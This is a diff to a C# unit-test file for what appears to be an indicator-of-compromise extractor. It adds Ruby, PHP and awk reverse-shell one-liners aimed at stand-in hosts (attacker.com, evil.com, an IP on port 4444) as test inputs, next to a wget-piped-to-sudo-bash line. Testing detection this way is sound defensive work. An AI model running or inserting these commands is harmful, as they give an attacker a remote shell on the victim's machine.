@@ -96,6 +96,12 @@ namespace B64Hunt.Tests.Iocs
                     new[] { "linux_path:/tmp/f", "linux_path:/bin/sh", "dns:evil.com" },
                 ["wget -qO- https://raw.githubusercontent.com/x/y/main/install.sh | sudo bash -s -- --key=abc"] =
                     new[] { "url:https://raw.githubusercontent.com/x/y/main/install.sh", "dns:raw.githubusercontent.com" },
+                ["ruby -rsocket -e'f=TCPSocket.open(\"attacker.com\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"] =
+                    new[] { "dns:attacker.com", "linux_path:/bin/sh" },
+                ["php -r '$sock=fsockopen(\"93.184.216.34\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"] =
+                    new[] { "ipv4:93.184.216.34", "linux_path:/bin/sh" },
+                ["awk 'BEGIN{s=\"/inet/tcp/0/evil.com/4444\";while(1){printf \"> \" |& s}}'"] =
+                    new[] { "dns:evil.com" },
                 ["ps=subprocess.Popen(cmd,stdout=subprocess.PIPE);out=ps.stdout.read();print(socket.AF_INET)"] =
                     new string[0],
             };
